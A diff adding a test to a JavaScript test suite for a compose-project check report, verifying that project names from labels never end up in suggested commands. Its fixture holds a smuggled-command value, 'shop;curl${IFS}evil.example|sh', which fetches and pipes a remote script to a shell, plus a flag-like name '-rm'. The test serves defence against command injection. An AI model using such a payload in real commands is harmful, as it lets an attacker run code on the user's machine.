@@ -80,6 +80,25 @@ describe('formatCheckReport', () => {
     expect(text).toContain('3 containers (/srv/billing)');
   });
 
+  it('never offers a command with a project name a label made up', () => {
+    const text = formatCheckReport(
+      diagnosisFixture({
+        projects: [],
+        findings: [],
+        verdict: 'healthy',
+        otherProjects: [
+          { name: 'shop;curl${IFS}evil.example|sh', containers: 1 },
+          { name: '-rm', containers: 1 },
+        ],
+      }),
+      { color: false },
+    );
+    expect(text).not.toContain('--project shop;');
+    expect(text).not.toContain('--project -rm');
+    expect(text).toContain('The compose project name "shop;curl${IFS}evil.example|sh" is not valid');
+    expect(text).toContain('The compose project name "-rm" is not valid');
+  });
+
   it('uses ANSI colours only when asked', () => {
     expect(formatCheckReport(diagnosisFixture(), { color: false })).not.toMatch(ANSI);
     expect(formatCheckReport(diagnosisFixture(), { color: true })).toMatch(ANSI);
